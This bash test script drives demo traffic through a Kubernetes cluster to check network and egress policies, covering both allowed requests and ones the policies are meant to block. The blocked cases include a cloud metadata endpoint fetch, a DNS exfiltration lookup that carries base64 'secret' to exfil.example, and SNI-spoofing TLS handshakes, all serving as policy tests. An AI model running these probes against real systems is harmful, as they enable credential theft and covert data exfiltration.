# shellcheck shell=bash
# The conversations, in the order of expected.jsonl. What the policies would say is written there, not here.

readonly hello_app=10.244.1.20 postgres=10.244.0.30 gateway=10.244.1.10 github=203.0.113.10 cloudflare=203.0.113.11
readonly hello_app_ipv6=fd00:10:244:1::20 postgres_ipv6=fd00:10:244::30 gateway_ipv6=fd00:10:244:1::10

demo_traffic() {
  # The application at work.
  query_postgres hello-app postgres
  fetch visitor "http://$gateway/" --next -sS "http://$gateway/hello?name=weir" --next -sS "http://$gateway/admin" \
    --next -sS -d name=weir "http://$gateway/hello"
  fetch hello-app -4 --cacert "$work/nginx/api.github.com.crt" https://api.github.com/zen
  fetch worker-app -4 --cacert "$work/nginx/api.cloudflare.com.crt" https://api.cloudflare.com/status
  fetch prometheus "http://$hello_app:15020/metrics"
  ping_once prometheus "$hello_app"
  fetch_as_kubelet "http://$hello_app:8000/healthz"
  fetch outsider "http://$gateway/"

  # What the policies are there to stop.
  query_postgres test "$postgres"
  fetch outsider "http://$hello_app:8000/"
  fetch worker-app "http://$hello_app:8000/"
  fetch visitor "http://$hello_app:8000/"
  fetch control-plane "http://$hello_app:8000/"
  ping_once hello-app "$postgres"
  knock hello-app "$postgres" 5433
  fetch hello-app -4 --cacert "$work/nginx/api.cloudflare.com.crt" https://api.cloudflare.com/
  fetch hello-app --cacert "$work/nginx/api.github.com.crt" "https://$github/"
  fetch worker-app -4 --cacert "$work/nginx/api.github.com.crt" https://api.github.com/
  fetch hello-app http://169.254.169.254/latest/meta-data/
  fetch blocked "http://$gateway/status"
  look_up worker-app 10.244.0.2 c2VjcmV0.exfil.example TXT

  # The same over IPv6.
  fetch hello-app -6 --cacert "$work/nginx/api.github.com.crt" https://api.github.com/zen
  ping_once prometheus "$gateway_ipv6"
  query_postgres test "$postgres_ipv6"
  fetch outsider "http://[$hello_app_ipv6]:8000/"
}

dns_and_tls_traffic() {
  look_up hello-app "$kube_dns_service" api.github.com A
  look_up hello-app "$kube_dns_service" api.github.com AAAA +tcp
  look_up hello-app fd00:10:244::2 hello-app.demo.svc.cluster.local A
  look_up test 10.244.0.2 API.GitHub.com A
  look_up test 10.244.0.2 example.org A
  look_up outsider 10.244.0.2 api.cloudflare.com A
  look_up hello-app 198.51.100.53 api.github.com A

  shake_hands hello-app "$github" -servername api.github.com -tls1_2
  shake_hands hello-app "$github" -servername API.GitHub.Com
  shake_hands hello-app "$github" -noservername
  shake_hands hello-app "$github" -servername api.cloudflare.com
  shake_hands hello-app "$cloudflare" -servername api.github.com
  say_plainly hello-app "$github" 443
  # A link that carries only small packets: the ClientHello takes two segments.
  ip -n "${prefix}hello-app" route add "$github/32" via "$node_ipv4" dev eth0 mtu lock 240
  shake_hands hello-app "$github" -servername api.github.com
  ip -n "${prefix}hello-app" route delete "$github/32"
}

# fetch POD CURL-ARGUMENT…
fetch() {
  local pod=$1
  shift
  in_pod "$pod" curl --disable -sS --fail-early -m 10 "$@" >/dev/null
}

# The kubelet's readiness probe comes from the node itself.
fetch_as_kubelet() {
  ip netns exec "$node" curl --disable -sS -m 10 -A kube-probe/1.34 --interface "$node_ipv4" "$1" >/dev/null
}

query_postgres() {
  in_pod "$1" "$postgres_bin/psql" "host=$2 user=postgres connect_timeout=10" -XAtqc \
    "SELECT words FROM greetings WHERE language = 'en'" >/dev/null
}

ping_once() { in_pod "$1" ping -n -q -c 1 -W 5 "$2" >/dev/null; }

# look_up POD SERVER NAME TYPE [DIG-OPTION…]
look_up() {
  local pod=$1 server=$2
  shift 2
  in_pod "$pod" dig +time=5 +tries=1 +nocookie "@$server" "$@" >/dev/null
}

# A connection attempt where nobody listens; the refusal is the point.
knock() {
  if in_pod "$1" nc -z -w 5 "$2" "$3"; then fail $EX_SOFTWARE "$2 has an unexpected listener on port $3"; fi
}

# shake_hands POD SERVER OPENSSL-OPTION…
shake_hands() {
  local pod=$1 server=$2
  shift 2
  in_pod "$pod" timeout 10 openssl s_client -connect "$server:443" "$@" </dev/null >/dev/null 2>&1
}

# Text instead of TLS; nginx answers 400 and closes.
say_plainly() { printf 'GET / HTTP/1.0\r\n\r\n' | in_pod "$1" nc -w 5 "$2" "$3" >/dev/null; }
